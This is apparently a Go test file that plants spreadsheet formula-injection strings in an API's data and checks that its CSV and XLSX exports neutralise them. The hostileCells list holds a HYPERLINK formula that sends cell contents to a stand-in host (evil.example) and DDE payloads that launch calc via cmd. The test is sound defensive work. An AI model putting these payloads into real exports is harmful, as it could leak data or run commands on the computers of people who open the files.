package httpapi_test

import (
	"bytes"
	"net/http"
	"strings"
	"testing"

	"github.com/getkin/kin-openapi/openapi3"
	"github.com/xuri/excelize/v2"
)

// hostileCells are names a spreadsheet would run as formulas.
var hostileCells = []string{
	`=HYPERLINK("https://evil.example/?d="&A1,"Click")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`, "=1+1\tx",
}

// formulaCell reports whether a spreadsheet would read s as a formula: it
// starts with = + - @ tab or CR and is not a plain number.
func formulaCell(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	for _, r := range strings.TrimLeft(s, "+-") {
		if !(r >= '0' && r <= '9' || r == '.' || r == 'e' || r == 'E' || r == '-' || r == '+') {
			return true
		}
	}
	return false
}

// offersCSV reports whether a parameter schema allows "csv" (or does not
// restrict its values at all).
func offersCSV(s *openapi3.SchemaRef) bool {
	if s == nil || s.Value == nil || len(s.Value.Enum) == 0 {
		return true
	}
	for _, v := range s.Value.Enum {
		if v == "csv" {
			return true
		}
	}
	return false
}

// csvRoutes are every CSV and XLSX answer of the contract: operations
// that produce text/csv or a workbook, or take format=csv.
func csvRoutes(t *testing.T) []string {
	t.Helper()
	var out []string
	for _, o := range contractOps(t) {
		if o.method != "GET" {
			continue
		}
		media := map[string]bool{}
		for _, r := range o.op.Responses.Map() {
			if r.Value != nil {
				for m := range r.Value.Content {
					media[m] = true
				}
			}
		}
		formatCSV := false
		for _, p := range o.params {
			// A format parameter that offers csv (the written report's
			// format is html or pdf, no table).
			if p.Value.In == "query" && p.Value.Name == "format" && offersCSV(p.Value.Schema) {
				formatCSV = true
			}
		}
		switch {
		case media["text/csv"] && !formatCSV, media["application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]:
			out = append(out, o.path)
		case formatCSV:
			out = append(out, o.path+"?format=csv")
		}
	}
	return out
}

// Every CSV and XLSX the service writes neutralises formula cells (site,
// rater, action and audit text), while numbers, negative ones included,
// stay numbers.
func TestNoExportCellIsAFormula(t *testing.T) {
	eachDB(t, func(t *testing.T, e *env) {
		e.seedDemo()
		var sites struct{ Items []struct{ ID, Kind string } }
		e.do("GET", "/v1/sites?limit=500", nil).want(http.StatusOK).json(&sites)
		team := ""
		for i, s := range sites.Items {
			e.do("PATCH", "/v1/sites/"+s.ID, map[string]any{"name": hostileCells[i%len(hostileCells)], "code": hostileCells[(i+1)%len(hostileCells)][:6] + s.ID[len(s.ID)-6:]}, "If-Match", "*").want(http.StatusOK)
			if s.Kind == "team" && team == "" {
				team = s.ID
			}
		}
		var raters struct{ Items []struct{ ID string } }
		e.do("GET", "/v1/raters?limit=500", nil).want(http.StatusOK).json(&raters)
		for i, r := range raters.Items {
			e.do("PATCH", "/v1/raters/"+r.ID, map[string]any{"name": hostileCells[i%len(hostileCells)], "organisation": "@org"}, "If-Match", "*").want(http.StatusOK)
		}
		var reviews struct{ Items []struct{ ID, Status string } }
		e.do("GET", "/v1/reviews?status=finalised&limit=500", nil).want(http.StatusOK).json(&reviews)
		for _, rv := range reviews.Items[:2] {
			e.create("/v1/reviews/"+rv.ID+"/actions", map[string]any{"title": hostileCells[0], "owner": hostileCells[3], "note": "-1+1", "item_ids": []string{"O6"}})
		}
		routes := csvRoutes(t)
		if len(routes) < 10 {
			t.Fatalf("only %d CSV/XLSX routes found: %v", len(routes), routes)
		}
		neutralised := 0
		for _, route := range routes {
			path := concrete(route, fixture{}) // no path ids on these routes
			sep := "?"
			if strings.Contains(path, "?") {
				sep = "&"
			}
			path += sep + "status=finalised&status=in_progress&status=consensus"
			switch {
			case strings.Contains(path, "/reports/trend"):
				path += "&site=" + team
			case strings.Contains(path, "/reports/transitions"):
				path += "&a_to=2025-12-31&b_to=2026-11-01"
			case strings.Contains(path, "/reports/") || strings.Contains(path, "/audit"):
				path = strings.Replace(path, "&status=finalised&status=in_progress&status=consensus", "", 1)
			}
			path = strings.Replace(path, "?&", "?", 1)
			r := e.do("GET", path, nil).want(http.StatusOK)
			var rows [][]string
			if strings.Contains(route, ".xlsx") {
				f, err := excelize.OpenReader(bytes.NewReader(r.Body))
				if err != nil {
					t.Fatal(err)
				}
				for _, sh := range f.GetSheetList() {
					rs, _ := f.GetRows(sh)
					rows = append(rows, rs...)
				}
			} else {
				rows = csvRows(t, r.Body)
			}
			for i, row := range rows {
				for j, cell := range row {
					if formulaCell(cell) {
						t.Errorf("%s row %d column %d is a formula: %q", route, i, j, cell)
					}
					if strings.HasPrefix(cell, "'") && formulaCell(cell[1:]) {
						neutralised++
					}
				}
			}
		}
		if neutralised < 50 {
			t.Fatalf("only %d neutralised cells: the hostile names did not reach the exports", neutralised)
		}
	})
}
